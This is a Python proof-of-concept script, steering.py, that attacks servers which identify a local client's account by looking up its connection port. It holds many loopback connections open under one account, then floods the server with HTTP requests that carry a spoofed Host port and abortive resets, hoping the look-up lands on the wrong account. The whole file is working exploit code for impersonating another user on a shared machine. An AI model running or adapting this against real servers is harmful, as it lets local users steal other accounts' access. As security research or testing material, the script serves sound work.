"""Attacks of a stranger on the look-up of accounts, which lead it to a connection of the server's account.

``steering.py hold PORT COUNT`` opens connections to another service, under the server's account, and keeps them open.
``steering.py KIND PORT PATH OTHER_PORT COUNT`` requests a tick so many times under the stranger's, each from a port
that the kernel chooses, which now and then is that of one of these. KIND is ``steer``, with the port of the
other service in the header ``Host``, from which some servers take their own, ``reset``, which ends the connection
before the server has looked the account up, or ``both``.
"""

import contextlib
import socket
import struct
import sys
import time

# Linux has this since 4.2, and Python's module since 3.12
IP_BIND_ADDRESS_NO_PORT = 24
RESET = struct.pack('ii', 1, 0)
# how long a server may take to read the request, varied from one to the next
PAUSES = [microseconds / 1e6 for microseconds in (0, 100, 200, 400, 700, 1000, 1500)]


def hold(port, count):
    held = []
    for number in range(count):
        client = socket.socket()
        # each to an address of its own, because the kernel numbers the ports of connections to one address in steps
        client.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
        client.bind(('127.0.0.1', 0))
        client.connect((f'127.0.{1 + number // 250}.{1 + number % 250}', port))
        held.append(client)
    time.sleep(600)


def steer(port, path, other_port, count):
    for number in range(count):
        print(number, flush=True)
        with contextlib.suppress(OSError), socket.create_connection(('127.0.0.1', port), timeout=10) as client:
            client.sendall(request(path, other_port))
            client.recv(4096)


def reset(port, path, other_port, count):
    both(port, path, port, count)


def both(port, path, other_port, count):
    for number in range(count):
        print(number, flush=True)
        with contextlib.suppress(OSError), socket.create_connection(('127.0.0.1', port), timeout=10) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET)
            client.sendall(request(path, other_port))
            time.sleep(PAUSES[number % len(PAUSES)])


def request(path, port):
    return f'GET {path} HTTP/1.1\r\nHost: localhost:{port}\r\nConnection: close\r\n\r\n'.encode()


if __name__ == '__main__':
    kind, *values = sys.argv[1:]
    kinds = {function.__name__: function for function in (hold, steer, reset, both)}
    kinds[kind](*(int(value) if value.isdigit() else value for value in values))
